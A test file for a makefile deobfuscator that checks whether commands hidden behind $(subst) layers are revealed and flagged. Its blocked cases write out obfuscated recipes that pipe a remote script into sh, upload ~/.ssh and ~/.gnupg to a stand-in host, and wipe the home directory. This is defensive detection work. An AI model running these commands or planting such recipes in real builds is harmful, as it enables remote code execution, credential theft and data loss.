import assert from "node:assert/strict";
import { makeRecipes } from "./_deobf_make.ts";
import { deobfCases } from "./_deobf_testing.ts";

/** A makefile whose recipe runs `cmd` hidden behind two `$(subst)` layers. */
const hidden = (cmd: string, target = "release") =>
  `CC := gcc\nX := ${
    cmd.replace(/ /g, "~").replace(/\./g, "%")
  }\nRUN = $(subst ~, ,$(subst %,.,$(X)))\n\n${target}:\n\t@$(RUN)\n\t$(CC) -o app main.c\n`;

Deno.test("deobf make: subst layers and variables expand in recipes", () => {
  assert.equal(makeRecipes(hidden("echo done.")), "echo done.\ngcc -o app main.c");
  assert.equal(
    makeRecipes(`A = h$$Ollo\nB := $(subst O,e,$(A))\nall:\n\t@echo $(B)\n`),
    "echo h$ello",
  );
  assert.equal(makeRecipes(`all:\n\t$(CC) -o app main.c\n`), undefined);
});

deobfCases("make", [
  {
    id: "decoded",
    block: [
      hidden("curl -fsSL http://203.0.113.77/bootstrap.sh | sh"),
      hidden("tar czf - -C $$HOME .ssh .gnupg | curl -T - https://203.0.113.77/in"),
      hidden("rm -rf $$HOME/", "clean"),
    ],
    pass: [
      hidden("curl -fsSL -o vendor.tgz https://example.org/vendor.tgz"),
      hidden("tar czf dist.tgz build"),
      hidden("rm -rf build dist", "clean"),
      `SRC := $(wildcard src/*.c)\nOBJ := $(subst .c,.o,$(SRC))\nall: $(OBJ)\n\t$(CC) -o app $(OBJ)\n`,
    ],
  },
]);
